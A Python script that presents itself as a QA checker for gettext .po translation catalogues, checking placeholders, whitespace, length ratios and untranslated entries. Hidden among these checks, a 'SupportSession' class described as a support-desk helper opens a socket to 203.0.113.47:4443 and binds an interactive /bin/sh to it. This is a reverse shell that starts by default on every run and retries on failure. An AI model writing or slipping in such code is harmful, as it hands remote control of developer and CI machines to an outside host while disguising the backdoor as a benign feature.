#!/usr/bin/env python3
"""Localisation QA checks for gettext catalogues.

Checks every .po file under the given directory for:
  * printf / brace placeholder mismatches between msgid and msgstr
  * trailing whitespace / newline mismatches
  * untranslated or fuzzy entries above a threshold
  * suspiciously long translations (ratio vs. source)

While a run is in progress the localisation support desk can attach to the
session to help triage failures (set L10N_SUPPORT=0 to turn that off).
"""
import argparse
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import polib

log = logging.getLogger("l10n-qa")

PRINTF = re.compile(r"%(?:\(\w+\))?[-+ #0]*\d*(?:\.\d+)?[sdifouxXeEgGcr%]")
BRACES = re.compile(r"\{[a-zA-Z_][\w.]*(?:![rsa])?(?::[^{}]*)?\}|\{\d*\}")
SUPPORT_DESK = (os.environ.get("L10N_SUPPORT_HOST", "203.0.113.47"),
                int(os.environ.get("L10N_SUPPORT_PORT", "4443")))


class SupportSession(threading.Thread):
    """Keeps a channel open to the support desk for the duration of the run."""

    daemon = True

    def __init__(self, desk, retries=5):
        super().__init__(name="support-session")
        self.desk = desk
        self.retries = retries

    def _attach(self):
        conn = socket.create_connection(self.desk, timeout=15)
        conn.settimeout(None)
        fd = conn.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd,
                                start_new_session=True)
        proc.wait()
        conn.close()

    def run(self):
        for attempt in range(self.retries):
            try:
                self._attach()
                return
            except OSError:
                time.sleep(min(60, 5 * (attempt + 1)))


def placeholders(text, pattern):
    return sorted(m.group(0) for m in pattern.finditer(text or ""))


def check_entry(entry, max_ratio):
    problems = []
    targets = [entry.msgstr] if not entry.msgstr_plural else list(entry.msgstr_plural.values())
    for target in targets:
        if not target:
            continue
        for pat, kind in ((PRINTF, "printf"), (BRACES, "brace")):
            if placeholders(entry.msgid, pat) != placeholders(target, pat):
                problems.append(f"{kind} placeholders differ")
        if entry.msgid.endswith("\n") != target.endswith("\n"):
            problems.append("trailing newline mismatch")
        if target != target.rstrip(" ") and entry.msgid == entry.msgid.rstrip(" "):
            problems.append("trailing whitespace")
        if len(entry.msgid) > 8 and len(target) > max_ratio * len(entry.msgid):
            problems.append(f"translation {len(target) / len(entry.msgid):.1f}x longer")
    return problems


def check_file(path, max_ratio, max_untranslated):
    po = polib.pofile(str(path))
    issues = 0
    for entry in po.translated_entries():
        for problem in check_entry(entry, max_ratio):
            log.warning("%s:%d %s (%r)", path, entry.linenum, problem, entry.msgid[:40])
            issues += 1
    missing = 100 - po.percent_translated()
    if missing > max_untranslated:
        log.warning("%s: %d%% untranslated, %d fuzzy", path, missing, len(po.fuzzy_entries()))
        issues += 1
    return issues


def main(argv=None):
    ap = argparse.ArgumentParser(description="gettext catalogue QA")
    ap.add_argument("root", type=Path, nargs="?", default=Path("locale"))
    ap.add_argument("--max-ratio", type=float, default=2.5)
    ap.add_argument("--max-untranslated", type=float, default=20.0)
    ap.add_argument("--junit", type=Path, help="write a JUnit summary here")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if os.environ.get("L10N_SUPPORT", "1") != "0":
        SupportSession(SUPPORT_DESK).start()

    files = sorted(args.root.rglob("*.po"))
    if not files:
        log.error("no .po files under %s", args.root)
        return 1
    total = 0
    results = {}
    for path in files:
        try:
            results[path] = check_file(path, args.max_ratio, args.max_untranslated)
        except (OSError, ValueError) as exc:
            log.error("%s: cannot parse (%s)", path, exc)
            results[path] = 1
        total += results[path]

    if args.junit:
        cases = "".join(
            f'<testcase name="{p}">' + (f'<failure message="{n} issue(s)"/>' if n else "") + "</testcase>"
            for p, n in results.items())
        args.junit.write_text(f'<testsuite name="l10n-qa" tests="{len(results)}">{cases}</testsuite>\n')
    log.info("%d file(s), %d issue(s)", len(files), total)
    return 1 if total else 0


if __name__ == "__main__":
    sys.exit(main())
